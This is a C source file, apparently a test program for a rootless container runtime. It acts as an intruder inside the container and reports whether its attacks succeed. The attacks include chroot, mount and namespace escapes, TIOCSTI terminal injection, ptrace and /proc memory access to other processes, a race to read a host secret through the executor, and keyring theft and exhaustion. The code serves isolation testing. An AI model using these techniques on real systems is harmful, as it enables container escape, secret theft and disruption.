/* A hostile program in a container: it prints what it has inherited and the results of attacks. Each line of output is
 * a name and a result: a value, or the name of an errno.
 *
 *     intruder given             descriptors, signals, parent, session, terminal, limits of this process
 *     intruder escape MARKER     tries to reach MARKER, a path of the host, or anything above the root
 *     intruder type              tries to insert input into the terminal on standard input, and to take it over
 *     intruder attack PID        tries every way into another process
 *     intruder end PID           tries every way to end another process
 *     intruder hunt FILE SECRET  tries to enter every process whose program is the executor, and to read SECRET, a path
 *                                of the host, through it, until FILE exists
 *     intruder lock COMMAND…     runs COMMAND in a session keyring with a secret, whose number is added to COMMAND
 *     intruder unlock NUMBER     looks for that secret
 *     intruder fill              uses up the quota of keys, and keeps running
 *     intruder plant NAME        creates a session keyring that all users may use, and keeps running
 *     intruder session           the number of its session keyring
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kcmp.h>
#include <linux/keyctl.h>
#include <linux/openat2.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *name, long result)
{
    if (result < 0)
        printf("%s %s\n", name, strerrorname_np(errno));
    else
        printf("%s %ld\n", name, result);
    fflush(stdout);
}

static void given(void)
{
    sigset_t blocked;
    char link[64], target[256];

    for (int fd = 0; fd < 4096; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        memset(target, 0, sizeof target);
        readlink(link, target, sizeof target - 1);
        printf("descriptor %d %s\n", fd, target);
    }
    sigprocmask(SIG_SETMASK, NULL, &blocked);
    for (int number = 1; number < 65; number++) {
        struct sigaction action;

        if (sigismember(&blocked, number) == 1)
            printf("blocked %d\n", number);
        if (sigaction(number, NULL, &action) == 0 && action.sa_handler != SIG_DFL)
            printf("ignored %d\n", number);
    }
    int death = 0;
    prctl(PR_GET_PDEATHSIG, &death);
    say("pdeathsig", death);
    say("subreaper", (prctl(PR_GET_CHILD_SUBREAPER, &death), death));
    say("parent", getppid());
    say("leads", getsid(0) == getpid() && getpgrp() == getpid());
    say("umask", umask(0));
    say("terminal", open("/dev/tty", O_RDWR));
    for (int which = 0; which < 16; which++) {
        struct rlimit limit;

        getrlimit(which, &limit);
        printf("limit%d %ld %ld\n", which, (long)limit.rlim_cur, (long)limit.rlim_max);
    }
    fflush(stdout);
}

static bool is_root(int dir)
{
    struct stat here, root;

    return fstat(dir, &here) == 0 && stat("/", &root) == 0 && here.st_dev == root.st_dev && here.st_ino == root.st_ino;
}

/* Walks upwards from `dir`; prints whether the walk ends at the root, and whether the marker is below its end. */
static void upwards(const char *name, int dir, const char *marker)
{
    char said[64];

    for (int i = 0; i < 64; i++) {
        int up = openat(dir, "..", O_PATH | O_DIRECTORY);

        if (up < 0)
            break;
        dir = up;
    }
    snprintf(said, sizeof said, "%s-marker", name);
    say(said, faccessat(dir, marker + 1, F_OK, 0));
    printf("%s-is-root %d\n", name, is_root(dir));
    fflush(stdout);
}

static void escape(const char *marker)
{
    struct open_how how = {.flags = O_PATH};
    int root = open("/", O_PATH | O_DIRECTORY), fd;

    say("open", open(marker, O_RDONLY));
    say("openat2", syscall(SYS_openat2, root, "../../../../../../../..", &how, sizeof how) < 0 ? -1 : 0);
    upwards("up", root, marker);
    fd = (int)syscall(SYS_open_tree, AT_FDCWD, "/..", OPEN_TREE_CLONE | AT_RECURSIVE);
    if (fd >= 0)
        upwards("tree", fd, marker);
    /* the escape from chroot(2) with CAP_SYS_CHROOT */
    if (mkdir("/tmp/below", 0700) == 0 && chroot("/tmp/below") == 0) {
        fchdir(root);
        fd = root;
        for (int i = 0; i < 64; i++)
            fd = openat(fd, "..", O_PATH | O_DIRECTORY);
        say("chroot-marker", faccessat(fd, marker + 1, F_OK, 0));
        fchdir(fd);
        chroot(".");
    }
    printf("chroot-is-root %d\n", is_root(root));
    /* a mount below the root, if there is one */
    say("umount", umount2("/", MNT_DETACH));
    say("umount-marker", access(marker, F_OK));
    say("setns", (fd = open("/proc/1/ns/mnt", O_RDONLY)) < 0 ? -1 : setns(fd, CLONE_NEWNS));
    say("setns-marker", access(marker, F_OK));
    say("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    say("unshare-umount", umount2("/", MNT_DETACH));
    say("unshare-marker", access(marker, F_OK));
}

static void type(void)
{
    say("TIOCSTI", ioctl(0, TIOCSTI, "x"));
    say("TIOCSCTTY", ioctl(0, TIOCSCTTY, 0));
    say("TIOCSCTTY-force", ioctl(0, TIOCSCTTY, 1));
    say("TIOCSPGRP", tcsetpgrp(0, getpgrp()));
    say("TIOCSTI-then", ioctl(0, TIOCSTI, "x"));
}

static long open_below(const char *pid, const char *name, int flags)
{
    char path[256];

    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    return open(path, flags);
}

/* Some files cannot be opened, others can be opened but not read. */
static long read_below(const char *pid, const char *name)
{
    static char content[64];
    long fd = open_below(pid, name, O_RDONLY);

    return fd < 0 ? -1 : read((int)fd, content, sizeof content);
}

static long link_below(const char *pid, const char *name)
{
    char path[256], target[4096];

    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    return readlink(path, target, sizeof target);
}

static void attack(const char *which)
{
    static const char *const files[] = {"environ", "auxv", "stack", "syscall", "personality", "pagemap", "maps"};
    static const char *const links[] = {"exe",  "cwd",  "root", "fd/0",   "fd/1",   "fd/2",
                                        "fd/3", "fd/4", "fd/5", "ns/mnt", "ns/user"};
    static char memory[4096];
    struct iovec ours = {memory, 16}, theirs = {(void *)0x400000, 16};
    pid_t pid = atoi(which);
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    long result;

    for (size_t i = 0; i < sizeof files / sizeof *files; i++)
        say(files[i], read_below(which, files[i]));
    say("mem", open_below(which, "mem", O_RDONLY));
    say("mem-write", open_below(which, "mem", O_RDWR));
    for (size_t i = 0; i < sizeof links / sizeof *links; i++)
        say(links[i], link_below(which, links[i]));
    result = open_below(which, "fd", O_RDONLY | O_DIRECTORY);
    say("fd", result < 0 ? -1 : syscall(SYS_getdents64, (int)result, memory, sizeof memory));
    say("root/", open_below(which, "root/", O_PATH));
    say("cwd/", open_below(which, "cwd/", O_PATH));
    say("process_vm_readv", process_vm_readv(pid, &ours, 1, &theirs, 1, 0));
    say("process_vm_writev", process_vm_writev(pid, &ours, 1, &theirs, 1, 0));
    say("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
    say("kcmp", syscall(SYS_kcmp, getpid(), pid, KCMP_VM, 0, 0));
    say("setns", setns(pidfd, CLONE_NEWNS));
    say("seize", ptrace(PTRACE_SEIZE, pid, NULL, NULL));
    say("attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
}

/* kill(2) permits this for every process of the same user that has a pid in this namespace. */
static void end(const char *which)
{
    pid_t pid = atoi(which);

    say("kill", kill(pid, SIGKILL));
    say("tgkill", syscall(SYS_tgkill, pid, pid, SIGKILL));
    say("pidfd_open", syscall(SYS_pidfd_open, pid, 0));
}

/* Whether /proc/PID/comm is that of the executor. */
static bool is_executor(const char *pid)
{
    char name[32] = {0};
    int fd = (int)open_below(pid, "comm", O_RDONLY);
    bool is = fd >= 0 && read(fd, name, sizeof name - 1) > 0 && strncmp(name, "rootless:init", 13) == 0;

    if (fd >= 0)
        close(fd);
    return is;
}

/* Whether the file can be read through the root of that process. */
static bool shows(const char *pid, const char *secret)
{
    char path[4400], byte;
    int fd;
    bool shown;

    snprintf(path, sizeof path, "/proc/%s/root%s", pid, secret);
    fd = open(path, O_RDONLY | O_NONBLOCK);
    shown = fd >= 0 && read(fd, &byte, 1) == 1;
    if (fd >= 0)
        close(fd);
    return shown;
}

/* Whether ptrace(2) can attach to the executor before it executes the program. */
static bool traced(const char *which)
{
    pid_t pid = atoi(which);
    bool is;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return false;
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    is = is_executor(which);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return is;
}

static void hunt(const char *end, const char *secret)
{
    long looks = 0, seen = 0, caught = 0;

    puts("hunting");
    fflush(stdout);
    for (; access(end, F_OK) < 0; looks++) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc))) {
            static const char *const ways[] = {"exe", "fd/3", "cwd", "root", "ns/mnt"};
            char path[300], target[4096] = {0};
            long mem;

            if (atoi(entry->d_name) <= 1 || !is_executor(entry->d_name))
                continue;
            seen++;
            if (secret[0] && shows(entry->d_name, secret)) {
                printf("read %s\n", secret);
                caught++;
            }
            for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
                snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, ways[i]);
                if (readlink(path, target, sizeof target - 1) <= 0)
                    continue;
                /* the executor's file is a memfd; its other symlinks count only until it executes the program */
                caught += strstr(target, "memfd") || is_executor(entry->d_name);
            }
            mem = open_below(entry->d_name, "mem", O_RDWR);
            if (mem >= 0 && is_executor(entry->d_name))
                caught++;
            if (mem >= 0)
                close((int)mem);
            caught += traced(entry->d_name);
        }
        if (proc)
            closedir(proc);
    }
    printf("looks %ld\nseen %ld\ncaught %ld\n", looks, seen, caught);
}

static int lock(char **command)
{
    long keyring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
    long key = syscall(SYS_add_key, "user", "secret", "s3cr3t", 6, KEY_SPEC_SESSION_KEYRING);
    char number[32];
    int count = 0;

    if (keyring < 0 || key < 0)
        return 1;
    while (command[count] && strcmp(command[count], "NUMBER") != 0)
        count++;
    snprintf(number, sizeof number, "%ld", key);
    if (command[count])
        command[count] = number;
    execv(command[0], command);
    return 1;
}

static void unlock(const char *number)
{
    char secret[16] = {0};

    say("search", syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "secret", 0));
    say("request", syscall(SYS_request_key, "user", "secret", NULL, 0));
    say("read", syscall(SYS_keyctl, KEYCTL_READ, strtol(number, NULL, 10), secret, sizeof secret));
    say("link", syscall(SYS_keyctl, KEYCTL_LINK, strtol(number, NULL, 10), KEY_SPEC_SESSION_KEYRING));
}

static void fill(void)
{
    char name[16];
    int count = 0;

    for (;; count++) {
        snprintf(name, sizeof name, "%d", count);
        if (syscall(SYS_add_key, "user", name, "x", 1, KEY_SPEC_SESSION_KEYRING) < 0)
            break;
    }
    say("full", count);
    pause();
}

static void plant(const char *name)
{
    long keyring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name);

    syscall(SYS_keyctl, KEYCTL_SETPERM, keyring, 0x3f3f3f3f);
    say("planted", keyring);
    pause();
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "", *more = argc > 2 ? argv[2] : "";

    if (strcmp(what, "given") == 0)
        given();
    else if (strcmp(what, "escape") == 0)
        escape(more);
    else if (strcmp(what, "type") == 0)
        type();
    else if (strcmp(what, "attack") == 0)
        attack(more);
    else if (strcmp(what, "end") == 0)
        end(more);
    else if (strcmp(what, "hunt") == 0)
        hunt(more, argc > 3 ? argv[3] : "");
    else if (strcmp(what, "lock") == 0)
        return lock(argv + 2);
    else if (strcmp(what, "unlock") == 0)
        unlock(more);
    else if (strcmp(what, "fill") == 0)
        fill();
    else if (strcmp(what, "plant") == 0)
        plant(more);
    else if (strcmp(what, "session") == 0)
        say("session", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
    else
        return 2;
    return 0;
}
